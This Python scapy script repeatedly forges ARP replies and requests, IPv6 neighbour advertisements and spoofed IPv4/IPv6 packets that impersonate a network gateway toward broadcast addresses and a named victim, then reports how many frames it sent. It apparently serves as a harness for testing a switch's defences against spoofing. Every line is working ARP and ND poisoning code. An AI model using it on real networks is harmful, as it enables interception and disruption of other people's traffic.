# Speaks in the gateway's name, in all ways and again and again, until the seconds are over; tells how often. Whoever has scapy's word for what
# these frames are need not take ours.
import json, sys, time
from scapy.all import *

WHOM, GATEWAY, GATEWAY6, GATEWAY_MAC, VICTIM, VICTIM6, VICTIM_MAC, FAR, FAR6, OWN, OWN6, LOCAL = sys.argv[1:13]
MAC = get_if_hwaddr("eth0")
ALL, EVERY, EVERY_MAC = "ff:ff:ff:ff:ff:ff", "ff02::1", "33:33:00:00:00:01"
by = lambda to, mac=MAC: Ether(src=mac, dst=to)
arp = lambda to, op, psrc=GATEWAY, mac=MAC, pdst=GATEWAY: by(to) / ARP(op=op, hwsrc=mac, psrc=psrc, hwdst=VICTIM_MAC, pdst=pdst)
na = lambda to, dst, src=LOCAL, target=GATEWAY6: by(to) / IPv6(src=src, dst=dst, hlim=255) / ICMPv6ND_NA(tgt=target, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=MAC)
udp = UDP(sport=1000, dport=7000) / b"forged"
ECHO = ICMP() / b"forged"
claims = {
    # Its Ethernet address.
    "mac": [by(VICTIM_MAC, GATEWAY_MAC) / IP(src=OWN, dst=VICTIM) / udp, by(ALL, GATEWAY_MAC) / ARP(op=1, hwsrc=MAC, psrc=OWN, pdst=VICTIM),
            by(GATEWAY_MAC, GATEWAY_MAC) / IP(src=OWN, dst=FAR) / udp, by(VICTIM_MAC, GATEWAY_MAC) / IPv6(src=OWN6, dst=VICTIM6) / udp],
    # Its IPv4 address, to all, to one, asking and answering, and its Ethernet address for one's own.
    "arp": [arp(ALL, 2), arp(ALL, 1), arp(VICTIM_MAC, 2, pdst=VICTIM), arp(VICTIM_MAC, 1, pdst=VICTIM), arp(GATEWAY_MAC, 2, pdst=VICTIM),
            arp(ALL, 2, psrc=OWN, mac=GATEWAY_MAC)],
    # Its IPv6 address.
    "nd": [na(EVERY_MAC, EVERY), na(GATEWAY_MAC, GATEWAY6)],
    # The same to one station alone, which no switch looks into unless it holds the port to its addresses.
    "nd to one": [na(VICTIM_MAC, VICTIM6)],
    # Packets from its addresses: to many, to itself, and to another network, whose station would answer it.
    "ipv4": [by(ALL) / IP(src=GATEWAY, dst="10.0.0.255") / udp, by("01:00:5e:00:00:fb") / IP(src=GATEWAY, dst="224.0.0.251", ttl=1) / udp,
             by(GATEWAY_MAC) / IP(src=GATEWAY, dst=GATEWAY) / ECHO, by(GATEWAY_MAC) / IP(src=GATEWAY, dst=FAR) / ECHO,
             by(GATEWAY_MAC) / IP(src=GATEWAY, dst="192.168.99.1") / udp],
    "ipv6": [na(EVERY_MAC, EVERY, src=GATEWAY6), by(EVERY_MAC) / IPv6(src=GATEWAY6, dst=EVERY) / udp, by(GATEWAY_MAC) / IPv6(src=GATEWAY6, dst=GATEWAY6) / udp,
             by(GATEWAY_MAC) / IPv6(src=GATEWAY6, dst=FAR6) / ICMPv6EchoRequest()],
    "ipv4 to one": [by(VICTIM_MAC) / IP(src=GATEWAY, dst=VICTIM) / udp],
    "ipv6 to one": [by(VICTIM_MAC) / IPv6(src=GATEWAY6, dst=VICTIM6) / udp],
}
frames = {name: [bytes(frame).ljust(60, b"\0") for frame in frames] for name, frames in claims.items() if WHOM == "held" or "one" not in name}
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind(("eth0", 0))
until, rounds = time.time() + float(sys.argv[13]), 0
print("begun", flush=True)
while time.time() < until:
    for each in frames.values():
        for frame in each: sock.send(frame)
    rounds += 1
    time.sleep(0.01)
print(json.dumps({name: rounds * len(each) for name, each in frames.items()}), flush=True)
